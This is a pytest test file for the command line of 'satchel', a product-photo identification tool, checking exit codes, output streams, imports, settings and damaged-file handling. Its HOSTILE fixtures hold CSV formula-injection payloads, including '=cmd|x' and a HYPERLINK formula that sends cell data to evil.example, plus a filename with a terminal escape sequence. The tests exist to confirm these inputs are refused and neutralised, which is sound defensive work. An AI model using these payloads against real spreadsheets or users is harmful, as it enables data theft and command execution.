"""The command line as a user meets it: exit codes and both streams.

Real processes (`process`) where the start, the terminal or the way out matters; else in this one.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import fill, jpeg
from damage import flip_a_bit_of
from satchel.cli.app import main
from satchel.config import Settings, default_settings_text, read_settings
from satchel.encode.encoder import Encoder
from satchel.errors import WorkspaceError
from satchel.records import Verdict
from satchel.workspace import Workspace
from support import cli as in_process


def satchel(*arguments: object, cwd: Path) -> in_process.Done:
    """Run a command in this process, in a workspace's folder."""
    with contextlib.chdir(cwd):
        return in_process.satchel(cwd, *map(str, arguments))


def process(
    *arguments: object, cwd: Path, environment: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run a command as a process."""
    return subprocess.run(
        [sys.executable, "-m", "satchel", *map(str, arguments)],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "NO_COLOR": "1", "COLUMNS": "100", **(environment or {})},
        check=False,
    )


@pytest.fixture
def here(filled: Workspace) -> Path:
    return filled.folder


@pytest.mark.flow
def test_from_nothing_to_an_answer(tmp_path: Path, catalogue_file: Path) -> None:
    made = process("init", "shop", cwd=tmp_path)
    assert made.returncode == 0
    shop = tmp_path / "shop"
    assert {"satchel.toml", "satchel.db", "photos", "models", "index", "runs"} <= {
        path.name for path in shop.iterdir()
    }
    imported = process("import", catalogue_file, cwd=shop)
    assert imported.returncode == 0
    assert "10 added" in imported.stderr
    assert "5 products and 10 photos" in imported.stderr
    indexed = process("index", cwd=shop)
    assert "10 photos embedded; the index holds 10" in indexed.stderr
    query = tmp_path / "query.jpg"
    query.write_bytes(jpeg("ring", 50))
    answered = process("identify", query, cwd=shop)
    assert answered.returncode == 0
    assert answered.stdout.startswith(f"{query}: ")  # in one line, however narrow the table is
    first = next(line for line in answered.stdout.splitlines() if "M3" in line and "│" in line)
    assert first.split("│")[1].strip() == "1"
    paths = [line.split()[1] for line in answered.stdout.splitlines() if "photos/" in line]
    assert len(paths) == 5
    assert all((shop / path).is_file() for path in paths)


def test_json_is_the_contract(here: Path, tmp_path: Path) -> None:
    for shape in ("disc", "box"):
        (tmp_path / f"{shape}.jpg").write_bytes(jpeg(shape, 50))
    answered = satchel("identify", "--json", "--top", 3, tmp_path, cwd=here)
    lines = [json.loads(line) for line in answered.stdout.splitlines()]
    # The folder holds the catalogue's photos too; the two queries come first by name.
    found = {Path(line["photo"]).name: line for line in lines}
    assert found["disc.jpg"]["candidates"][0]["code"] == "M0"
    assert set(found["disc.jpg"]) == {
        "photo",
        "verdict",
        "candidates",
        "boxes",
        "detections",
        "in_catalogue",
        "likely",
        "precision",
        "calibrated",
        "where",
        "own_pictures",
        "different_items",
    }
    assert found["disc.jpg"]["verdict"] in list(Verdict)
    first = found["box.jpg"]["candidates"][0]
    assert set(first) == {
        "rank",
        "code",
        "brand",
        "name",
        "confidence",
        "photo",
        "likely",
        "score",
        "look_alikes",
    }
    assert first["look_alikes"] is None
    assert (first["rank"], first["code"], first["brand"]) == (1, "M1", "Atelier")
    assert Path(first["photo"]).is_file()
    assert len(found["box.jpg"]["candidates"]) == 3


def test_look_alikes_are_found_confirmed_and_counted_as_one(
    workspace: Workspace, encoder: Encoder, tmp_path: Path
) -> None:
    table = tmp_path / "catalogue.csv"
    rows = [("M1", "disc", "17 cm"), ("M2", "disc", "20 cm"), ("M3", "cross", "17 cm")]
    for code, shape, _ in rows:
        (tmp_path / f"{code}.jpg").write_bytes(jpeg(shape, 1 if code == "M1" else 2))
    lines = [f"{code},Tote,{size},{code}.jpg" for code, _, size in rows]
    table.write_text("\n".join(["code,name,size,photo", *lines]))
    fill(workspace, table, encoder)
    here = workspace.folder
    found = satchel("lookalikes", "--json", cwd=here)
    (group,) = (json.loads(line) for line in found.stdout.splitlines())
    assert (group["state"], group["codes"]) == ("proposed", ["M1", "M2"])
    assert group["advice"] == "17 cm, 20 cm: measure the width"
    assert group["differences"][0]["values"] == {"M1": "17 cm", "M2": "20 cm"}
    wrong = satchel("lookalikes", "--confirm", 1, "--reject", 1, cwd=here)
    assert (wrong.returncode, wrong.stdout) == (2, "")
    confirmed = satchel("lookalikes", "--confirm", group["group"], "--by", "Kim", cwd=here)
    assert "confirmed" in confirmed.stdout
    again = satchel("lookalikes", "--json", cwd=here)  # finding once more leaves it alone
    (kept,) = (json.loads(line) for line in again.stdout.splitlines())
    assert (kept["state"], kept["decided_by"]) == ("confirmed", "Kim")
    answered = satchel("identify", "--json", tmp_path / "M2.jpg", cwd=here)
    first, second = json.loads(answered.stdout)["candidates"]
    assert (first["code"], second["code"]) == ("M2", "M3")
    members = first["look_alikes"]["members"]
    assert [member["code"] for member in members] == ["M2", "M1"]
    assert sum(m["confidence"] for m in members) == pytest.approx(first["confidence"], abs=2e-4)
    assert first["look_alikes"]["advice"] == "20 cm, 17 cm: measure the width"
    table_answer = satchel("identify", tmp_path / "M2.jpg", cwd=here).stdout
    assert "same look: 20 cm, 17 cm: measure the width" in table_answer
    undone = satchel("lookalikes", "--undo", group["group"], "--json", cwd=here)
    assert json.loads(undone.stdout)["state"] == "proposed"


def test_no_look_alikes_is_a_line_and_no_empty_table(here: Path) -> None:
    found = in_process.satchel(here, "lookalikes")
    assert (found.returncode, found.stdout) == (0, "")
    assert "no products look alike" in found.stderr
    assert in_process.satchel(here, "lookalikes", "--json").stdout == ""


def test_an_empty_name_is_not_the_current_folder(here: Path) -> None:
    found = in_process.satchel(here, "identify", "")
    assert (found.returncode, found.stdout) == (1, "")
    assert found.stderr == ("'': expected a photo, a folder or a pattern, got an empty name\n")


def test_nothing_is_next_where_every_row_was_refused(here: Path, tmp_path: Path) -> None:
    table = tmp_path / "wrong.csv"
    table.write_text("code,photo\nM1,gone.jpg\n")
    done = in_process.satchel(here, "import", str(table))
    assert done.returncode == 1
    assert "1 refused" in done.stderr
    assert "next:" not in done.stderr


def test_item_gives_one_answer_by_the_photos_that_can_be_read(here: Path, tmp_path: Path) -> None:
    for seed in (50, 51):
        (tmp_path / f"item-{seed}.jpg").write_bytes(jpeg("cross", seed))
    (tmp_path / "item-bad.jpg").write_text("this is text")
    answered = satchel("identify", "--json", "--item", tmp_path / "item-*.jpg", cwd=here)
    (answer,) = (json.loads(line) for line in answered.stdout.splitlines())
    assert [Path(path).name for path in answer["photo"]] == ["item-50.jpg", "item-51.jpg"]
    assert answer["candidates"][0]["code"] == "M2"
    assert answered.returncode == 1
    assert "item-bad.jpg: expected a JPEG" in answered.stderr


def test_bad_photos_are_named_and_the_others_answered(here: Path, tmp_path: Path) -> None:
    (tmp_path / "good.jpg").write_bytes(jpeg("disc", 50))
    (tmp_path / "text.jpg").write_text("this is text")
    (tmp_path / "cut.jpg").write_bytes(jpeg("disc")[:700])
    (tmp_path / "empty.jpg").write_bytes(b"")
    names = ["text.jpg", "cut.jpg", "empty.jpg", "nothing.jpg", "*.tiff", "good.jpg"]
    paths = [tmp_path / name for name in names]
    answered = satchel("--quiet", "identify", "--json", *paths, cwd=here)
    assert answered.returncode == 1
    assert len(answered.stdout.splitlines()) == 1
    reasons = dict(line.split(": ", 1) for line in answered.stderr.splitlines())
    named = {Path(path).name: reason for path, reason in reasons.items()}
    assert set(named) == set(names) - {"good.jpg"}
    assert "no file matches" in named["*.tiff"]
    assert "expected a JPEG" in named["text.jpg"]
    assert "0 bytes" in named["empty.jpg"]
    assert "no such file" in named["nothing.jpg"]
    assert "damaged" in named["cut.jpg"]
    assert "Traceback" not in answered.stderr


@pytest.mark.parametrize(
    ("arguments", "message", "code"),
    [
        (("index",), "satchel init", 2),
        (("identify", "a.jpg"), "satchel init", 2),
        (("serve",), "satchel init", 2),
        (("frobnicate",), "No such command", 2),
        (("identify", "--top", "0", "a.jpg"), "Try", 2),
    ],
)
def test_outside_a_workspace_and_wrong_usage(
    tmp_path: Path, arguments: tuple[str, ...], message: str, code: int
) -> None:
    done = satchel(*arguments, cwd=tmp_path)
    assert done.returncode == code
    assert message in done.stderr
    assert "Traceback" not in done.stderr


def test_empty_catalogue_and_no_index_say_what_comes_next(
    workspace: Workspace, catalogue_file: Path
) -> None:
    here = workspace.folder
    for command in (("index",), ("identify", "a.jpg")):
        done = satchel(*command, cwd=here)
        assert (done.returncode, "satchel import" in done.stderr) == (1, True)
    satchel("import", catalogue_file, cwd=here)
    done = satchel("identify", "a.jpg", cwd=here)
    assert (done.returncode, "run `satchel index`" in done.stderr) == (1, True)


def test_photos_not_yet_indexed_are_mentioned(here: Path, tmp_path: Path) -> None:
    folder = tmp_path / "more" / "NEW"
    folder.mkdir(parents=True)
    (folder / "a.jpg").write_bytes(jpeg("disc", 99))
    assert satchel("import", folder.parent, cwd=here).returncode == 0
    answered = satchel("identify", folder / "a.jpg", cwd=here)
    assert answered.returncode == 0
    assert "1 photos are not in the index yet" in answered.stderr


def test_refused_rows_go_to_a_report(workspace: Workspace, catalogue_file: Path) -> None:
    with catalogue_file.open("a") as file:
        file.write("M0,Wrong,,,,,photos/disc-1.jpg\nM9,,,,,,photos/nothing.jpg\n")
    done = satchel("import", catalogue_file, cwd=workspace.folder)
    assert done.returncode == 1
    (report,) = (workspace.folder / "runs").glob("import-*.csv")
    assert str(report) in done.stderr
    with report.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(row["line"], row["column"], row["value"]) for row in rows] == [
        ("12", "brand", "Wrong"),
        ("13", "photo", "photos/nothing.jpg"),
    ]
    assert workspace.catalogue.size().photos == 10


HOSTILE = {
    "cp1252.csv": "code,brand,photo\r\nT1,Tod’s,a.jpg\r\n".encode("cp1252"),
    "formula.csv": (
        b"code,brand,photo\n=cmd|x,B,a.jpg\nF2,=1+1,nope.jpg\n"
        b'@SUM(A1),B,"=HYPERLINK(""http://evil.example/?x=""&A1)"\n+F,B,-nope.jpg\n'
    ),
    "unclosed.csv": b'code,name,photo\nU1,"open,a.jpg\n'
    + b"".join(b"U%d,N,a.jpg\n" % number for number in range(2, 60)),
    "nul.csv": b"code,name,photo\nN1,a\0b,a.jpg\nN2,x,a.jpg\n",
    "surrogates.jsonl": rb"""{"code":"SU1","photo":"a.jpg"}
{"code":"\ud800","photo":"a.jpg"}
{"code":"SU2","photo":"a.jpg","name":"x\ud800y"}
{"code":"SU3","photo":"\ud800.jpg"}
{"code":"SU4","photo":"a.jpg"}
""",
    f"{'가' * 80}.csv": b"code,photo\nL1,nope.jpg\n",
}
EXPECTED = {  # rows, added, refused
    "cp1252.csv": (1, 1, 0),
    "formula.csv": (4, 1, 3),
    "unclosed.csv": (59, 58, 1),
    "nul.csv": (2, 1, 1),
    "surrogates.jsonl": (5, 2, 3),
    f"{'가' * 80}.csv": (1, 0, 1),
}


@pytest.mark.parametrize("by", ["call", pytest.param("ascii", marks=pytest.mark.flow)])
@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: name[:10])
def test_hostile_files_cost_their_bad_rows_only(
    workspace: Workspace, tmp_path: Path, name: str, by: str
) -> None:
    (tmp_path / "a.jpg").write_bytes(jpeg("disc"))
    (tmp_path / name).write_bytes(HOSTILE[name])
    command = ("import", tmp_path / name)
    done: in_process.Done | subprocess.CompletedProcess[str]
    if by == "ascii":
        terminal = {"PYTHONIOENCODING": "ascii"}
        done = process(*command, cwd=workspace.folder, environment=terminal)
    else:
        done = satchel(*command, cwd=workspace.folder)
    rows, added, refused = EXPECTED[name]
    assert f"{rows} rows: {added} added, 0 already there, {refused} refused" in done.stderr
    assert (done.returncode, done.stdout) == (1 if refused else 0, "")
    assert "Traceback" not in done.stderr
    reports = [path for path in (workspace.folder / "runs").iterdir() if path.suffix == ".csv"]
    assert len(reports) == bool(refused)
    for report in reports:
        with report.open(encoding="utf-8-sig", newline="") as file:
            told = list(csv.reader(file))
        assert len(told) == 1 + refused
        assert not [cell for row in told for cell in row if cell.startswith(tuple("=+-@\t\r"))]
        assert all(cell.isprintable() for row in told for cell in row)


@pytest.mark.flow
def test_names_that_are_no_text_survive_import_and_identify(here: Path, tmp_path: Path) -> None:
    broken = os.fsdecode(b"\xff\xfe")
    folder = tmp_path / broken
    odd = "red] :bag:\x1b[2J.jpg"  # in the folder "[": "[/red]" ends a style in rich's markup
    for name in (
        "M0/good.jpg",
        f"M0/{broken}.jpg",
        f"M0/[/{odd}",
        f"{broken}/bad code.jpg",
        "M1/@eaDir/x.jpg",
    ):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(jpeg("disc", len(name)))
    (folder / "M0" / f"{broken}가.jpg").write_text("this is text")
    imported = process("import", folder, cwd=here)
    assert "5 rows: 3 added, 0 already there, 2 refused" in imported.stderr
    assert "made by a NAS, Windows or macOS: @eaDir (1)" in imported.stderr
    (report,) = (here / "runs").glob("import-*.csv")
    told = report.read_text(encoding="utf-8-sig")
    assert r"\udcff\udcfe,holds characters that cannot be printed" in told
    assert r'\udcff\udcfe가.jpg,"expected a JPEG' in told
    for encoding, options in (("utf-8", ["--json"]), ("ascii", [])):
        terminal = {"PYTHONIOENCODING": encoding}
        done = process("identify", *options, folder, cwd=here, environment=terminal)
        assert done.returncode == 1
        assert r"\udcff\udcfe" in done.stderr
        assert "@eaDir (1)" in done.stderr
        assert "Traceback" not in done.stderr
        assert "\x1b" not in done.stdout + done.stderr
        if options:
            names = {Path(json.loads(line)["photo"]).name for line in done.stdout.splitlines()}
            assert names == {"good.jpg", f"{broken}.jpg", "bad code.jpg", odd}
        else:
            assert "[/red] :bag:" in re.sub(r"\s+", " ", done.stdout)


def test_an_encoding_can_be_named(workspace: Workspace, tmp_path: Path) -> None:
    (tmp_path / "a.jpg").write_bytes(jpeg("disc"))
    table = tmp_path / "c.csv"
    table.write_bytes("code,colour,photo\nM1,카키,a.jpg\n".encode("cp949"))
    refused = satchel("import", table, cwd=workspace.folder)
    assert refused.returncode == 2
    assert "'īŰ' (UTF-8) or '카키' (CP949)" in refused.stderr
    taken = satchel("import", table, "--encoding", "cp949", cwd=workspace.folder)
    assert taken.returncode == 0
    assert workspace.catalogue.product("M1").colour == "카키"


def test_system_files_are_passed_over_by_identify(here: Path, tmp_path: Path) -> None:
    folder = tmp_path / "query"
    for name in ("a.jpg", "._a.jpg", "@eaDir/a.jpg", "more/$RECYCLE.BIN/a.jpg", "more/b.jpg"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(jpeg("disc", 50))
    done = satchel("identify", "--json", "--top", 1, folder, cwd=here)
    assert done.returncode == 0
    found = [json.loads(line)["photo"] for line in done.stdout.splitlines()]
    assert found == [str(folder / "a.jpg"), str(folder / "more" / "b.jpg")]
    assert "passed over, made by a NAS, Windows or macOS: " in done.stderr
    long = satchel("identify", "a" * 5_000, cwd=here)
    assert (long.returncode, "Traceback" in long.stderr) == (1, False)


@pytest.mark.flow
def test_workspace_by_option_and_by_environment(here: Path, tmp_path: Path) -> None:
    by_option = process("--workspace", here, "index", cwd=tmp_path)
    by_environment = process("index", cwd=tmp_path, environment={"SATCHEL_WORKSPACE": str(here)})
    assert by_option.returncode == by_environment.returncode == 0


def test_init_needs_a_folder(tmp_path: Path) -> None:
    (tmp_path / "shop").write_text("no folder")
    for name in ("shop", "shop/below"):
        done = in_process.satchel(tmp_path, "init", str(tmp_path / name))
        assert done.returncode == 2
        assert "Errno" not in done.stderr
    assert "not a directory" in done.stderr
    done = in_process.satchel(tmp_path, "init", str(tmp_path / "shop"))
    assert "expected a folder to make the workspace in, got the file" in done.stderr


def test_init_keeps_what_is_there(here: Path) -> None:
    (here / "satchel.toml").write_text("[identify]\ntop = 2\n")
    assert satchel("init", here, cwd=here).returncode == 0
    assert Workspace.open(here).settings.identify.top == 2
    assert Workspace.open(here).catalogue.size().products == 5


LOST = r"satchel: expected Satchel's database at .*/satchel\.db, found none; restore .*\n"


@pytest.mark.parametrize(
    "command",
    [
        "import catalogue.csv",
        "index",
        "curate",
        "lookalikes",
        "calibrate catalogue.csv",
        "identify photo.jpg",
        "serve --port 0",
        "split default",
        "runs",
        "promote lite0",
        "init .",
    ],
)
def test_every_command_reports_a_lost_database_in_one_line(
    workspace: Workspace,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    command: str,
) -> None:
    monkeypatch.chdir(workspace.folder)
    monkeypatch.setattr(sys, "argv", ["satchel", *command.split()])
    workspace.photos.put(b"a photo")
    (workspace.folder / "satchel.db").unlink()
    before = sorted(workspace.folder.rglob("*"))
    with pytest.raises(SystemExit) as left:
        main()
    assert left.value.code == 2
    told = capfd.readouterr()
    assert told.out == ""
    assert re.fullmatch(LOST, told.err), told.err
    assert sorted(workspace.folder.rglob("*")) == before


@pytest.mark.flow
def test_a_lost_database_as_a_process_meets_it(here: Path) -> None:
    (here / "satchel.db").write_bytes(b"")
    answered = process("identify", "photo.jpg", cwd=here)
    assert (answered.returncode, answered.stdout) == (2, "")
    assert answered.stderr.startswith("satchel: expected Satchel's database at ")
    assert answered.stderr.count("\n") == 1


def test_identify_answers_though_the_index_is_damaged(here: Path, tmp_path: Path) -> None:
    query = tmp_path / "query.jpg"
    query.write_bytes(jpeg("ring", 50))
    flip_a_bit_of(here / "index" / "gallery.safetensors", "rules")
    answered = satchel("identify", "--json", query, cwd=here)
    assert answered.returncode == 0, answered.stderr
    assert json.loads(answered.stdout)["candidates"][0]["code"] == "M3"


def test_the_settings_file_that_init_writes_is_valid_and_holds_the_defaults(tmp_path: Path) -> None:
    path = tmp_path / "satchel.toml"
    path.write_text(default_settings_text())
    assert read_settings(path) == Settings()
    path.write_text(
        default_settings_text().replace("\n#", "\n").replace("\n ", "\n# ")
    )  # every default, spelled out
    assert read_settings(path) == Settings()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[identify]\ntop = 500\n", "identify.top: input should be less than or equal to 50"),
        ("[identify]\ntips = 5\n", "identify.tips: there is no such setting"),
        ("[identify\n", "is not valid TOML"),
        ("[identify]\n[collect]\n[identify]\n", "that is there already"),
    ],
)
def test_bad_settings(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "satchel.toml"
    path.write_text(text)
    with pytest.raises(WorkspaceError, match=message):
        read_settings(path)


def test_photos_beside_the_folders_are_not_called_none(here: Path, tmp_path: Path) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "a.jpg").write_bytes(jpeg("ring", 1))
    told = satchel("import", loose, cwd=here)
    assert told.returncode == 1
    assert "which have no code (1)" in told.stderr
    assert f"nothing to import in {loose}" in told.stderr


@pytest.mark.parametrize("option", ["--confirm", "--reject", "--undo"])
def test_groups_beyond_all_numbers(here: Path, option: str) -> None:
    told = in_process.satchel(here, "lookalikes", option, str(10**20))
    assert told.returncode == 2
    assert "Invalid value" in told.stderr


def test_settings_of_tables_are_given_with_a_dot() -> None:
    from satchel.cli.shared import pairs

    found = pairs(["loss=arcface", "synth.many=0", "synth.looks=[1, 0, 0]", "epochs=3"])
    assert found == {"loss": "arcface", "synth": {"many": 0, "looks": [1, 0, 0]}, "epochs": 3}


def test_help_imports_nothing_heavy() -> None:
    code = (
        "import sys; from satchel.cli.app import app; app(['--help'], standalone_mode=False); "
        "print({'numpy', 'sqlalchemy', 'pydantic', 'rich'}.intersection(sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "set()"
